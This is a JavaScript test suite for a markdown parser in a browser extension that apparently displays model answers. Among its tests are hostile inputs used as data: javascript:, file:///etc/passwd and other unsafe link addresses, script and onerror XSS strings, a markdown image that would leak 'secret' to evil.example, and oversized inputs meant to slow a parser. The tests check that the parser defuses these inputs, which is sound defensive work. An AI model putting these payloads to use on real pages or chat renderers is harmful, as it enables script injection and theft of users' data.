import assert from 'node:assert/strict';
import {test} from 'node:test';
import {parseInline, safeAddress} from '../../../browser_bridge/hearth_bridge/extension/js/inline.js';
import {parse} from '../../../browser_bridge/hearth_bridge/extension/js/markdown.js';

const types = (source) => parse(source).map((block) => block.type);
const flat = (nodes) => nodes.map((node) => (node.children ? `${node.type}(${flat(node.children)})` : node.value ?? node.type)).join('');
const inline = (source) => flat(parseInline(source));

test('blocks are told apart', () => {
  assert.deepEqual(types('# Title\n\ntext\n\n- a\n- b\n\n1. c\n\n> said\n\n```js\nx\n```\n\n---\n\n| a | b |\n|---|--:|\n| 1 | 2 |'),
    ['heading', 'paragraph', 'list', 'list', 'quote', 'code', 'rule', 'table']);
});

test('a paragraph ends where a list, a heading or code begins', () => {
  assert.deepEqual(types('Steps:\n1. one\n2. two\n## Next\ntext\n```\ncode\n```'), ['paragraph', 'list', 'heading', 'paragraph', 'code']);
});

test('code keeps every sign, also while its end has not come', () => {
  const [code] = parse('```python\nif a < b:\n    print("**x**")\n');
  assert.deepEqual([code.language, code.value, code.open], ['python', 'if a < b:\n    print("**x**")\n', true]);
});

test('a quoted passage of an answer without a model is one block', () => {
  const [passage, rest] = parse('[1] Anemone, 3 May 2026\n    The server\n\n    is called **Anemone**.\n\nTo connect a model: …');
  assert.deepEqual([passage.type, passage.number, passage.from], ['passage', 1, 'Anemone, 3 May 2026']);
  assert.deepEqual(passage.children.map((block) => flat(block.children)), ['The server', 'is called strong(Anemone).']);
  assert.equal(rest.type, 'paragraph');
});

test('lists hold lists, code and several lines', () => {
  const [list] = parse('- one\n  more\n  - inner\n\n    ```\n    x\n    ```\n- two');
  assert.equal(list.items.length, 2);
  assert.deepEqual(list.items[0].map((block) => block.type), ['paragraph', 'list']);
  assert.deepEqual(list.items[0][1].items[0].map((block) => block.type), ['paragraph', 'code']);
});

test('an ordered list begins where it says', () => {
  assert.equal(parse('3. c\n4. d')[0].first, 3);
});

test('emphasis, code and citations', () => {
  assert.equal(inline('**a** and *b* and `c**d**` and ~~e~~'), 'strong(a) and em(b) and c**d** and del(e)');
  assert.equal(inline('snake_case_name stays, 2 * 3 * 4 too'), 'snake_case_name stays, 2 * 3 * 4 too');
  assert.deepEqual(parseInline('so [1] and [2, 3]').filter((node) => node.type === 'cite').map((node) => node.numbers), [[1], [2, 3]]);
  assert.equal(inline('unclosed **bold and `code'), 'unclosed **bold and `code');
});

test('links go to the web and to mail, and nowhere else', () => {
  assert.equal(parseInline('[x](https://example.org/a_(b))')[0].href, 'https://example.org/a_(b)');
  assert.equal(parseInline('see https://example.org/a.')[1].href, 'https://example.org/a');
  assert.equal(parseInline('(https://example.org/a)')[1].href, 'https://example.org/a');
  for (const address of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)', 'data:text/html,x',
    'vbscript:x', 'file:///etc/passwd', 'chrome://settings', 'blob:https://x/y', '//example.org', '/relative', 'about:blank']) {
    assert.equal(safeAddress(address), null, address);
    assert.ok(!JSON.stringify(parseInline(`[click](${address})`)).includes('"href"'), address);
  }
});

test('a picture is never fetched: its words stay, as a link that a person may follow', () => {
  const [node] = parseInline('![secret](https://evil.example/?q=secret)');
  assert.deepEqual([node.type, node.href], ['link', 'https://evil.example/?q=secret']);
  assert.ok(!JSON.stringify(parse('![x](https://evil.example/x.png)')).includes('image'));
});

test('markup stays text', () => {
  const said = '<script>alert(1)</script> <img src=x onerror=alert(1)> <b>x</b>';
  assert.equal(inline(said), said);
});

test('a text that grows ends as the same blocks as the whole, from the last block on', () => {
  const whole = '# T\n\nSome *text* [1].\n\n- a\n- b\n  - c\n\n```js\nlet a;\n\nlet b;\n```\n\n[1] You, 3 May\n    quoted\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\nend';
  let settled = 0;
  const kept = [];
  for (let length = 1; length <= whole.length; length++) {
    const found = parse(whole.slice(settled, length));
    if (found.length > 1) {
      kept.push(...found.slice(0, -1));
      settled += found.at(-1).start;
    }
  }
  kept.push(...parse(whole.slice(settled)));
  const plain = (blocks) => JSON.stringify(blocks, (key, value) => (key === 'start' ? undefined : value));
  assert.equal(plain(kept), plain(parse(whole)));
});

test('hostile text is parsed in good time and to the end', () => {
  const many = [`${'['.repeat(20_000)}`, '*'.repeat(20_000), '> '.repeat(5_000), `${'- '.repeat(3_000)}x`, '`'.repeat(20_000),
    '|'.repeat(20_000), '[1]'.repeat(5_000), `[${'a'.repeat(50_000)}](`, '_a'.repeat(10_000), 'https://'.repeat(3_000), '\u0000\u202E‮'];
  for (const text of many) {
    const begun = process.cpuUsage().user;
    assert.ok(Array.isArray(parse(text)));
    assert.ok(process.cpuUsage().user - begun < 5_000_000, text.slice(0, 20));
  }
});

test('any text at all gives blocks, and none of its letters is lost', () => {
  const signs = ['*', '_', '`', '[', ']', '(', ')', '#', '-', '>', '|', '\n', ' ', 'a', 'b', '1', '.', '<', '~', '\\', '!', '🙂'];
  for (let round = 0; round < 3000; round++) {
    const text = Array.from({length: 40}, () => signs[Math.floor(Math.random() * signs.length)]).join('');
    const shown = JSON.stringify(parse(text));
    for (const letter of ['b', '🙂']) {
      if (!/```|~~~/.test(text)) assert.ok((shown.split(letter).length >= text.split(letter).length) || /\]\(/.test(text), JSON.stringify(text));
    }
  }
});
